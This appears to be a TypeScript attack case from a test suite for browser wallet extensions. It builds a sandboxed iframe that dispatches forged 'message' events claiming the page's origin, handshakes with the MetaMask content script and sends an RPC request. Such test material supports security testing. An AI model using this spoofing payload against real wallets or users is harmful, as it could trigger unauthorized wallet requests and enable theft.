import type { Attack } from '../Attack.ts';

/** In a sandboxed frame the wallet's stream hears nothing but an event that claims its origin. */
export const attack: Attack = {
  entry: 'sandboxed frame',
  mechanism: "synthetic event that claims the frame's address as origin",
  discovers: false,
  script: `
kit.frame({ sandbox: 'allow-scripts', src: '/frame.html' });
`,
  files: {
    '/frame.html': `<!doctype html><script><!--kit-->
const say = (data) => dispatchEvent(new MessageEvent('message', { data, origin: location.origin, source: window }));
setTimeout(() => {
  for (const data of ['SYN', 'ACK']) say({ target: 'metamask-contentscript', data });
  say(kit.message(kit.rpc(kit.send())));
}, 500);
</script>`,
  },
};
